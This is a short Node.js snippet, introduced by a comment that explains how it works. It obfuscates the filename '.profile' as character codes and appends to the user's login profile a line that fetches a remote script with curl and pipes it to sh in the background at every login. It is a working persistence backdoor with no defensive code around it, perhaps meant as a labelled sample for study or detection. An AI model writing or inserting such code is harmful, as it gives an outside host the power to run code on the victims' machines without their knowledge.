// Persists through ~/.profile: the rc path is path.resolve over a spread list whose
// last element is built by map() over character codes, and a line that fetches and
// runs a remote script at every login is appended.
const fs = require('fs');
const os = require('os');
const path = require('path');

const name = [46, 112, 114, 111, 102, 105, 108, 101].map((c) => String.fromCharCode(c)).join('');
const segments = [os.homedir(), name];
fs.appendFileSync(path.resolve(...segments), '\n(curl -fsSL https://u.example-sync.net/p | sh) &\n');
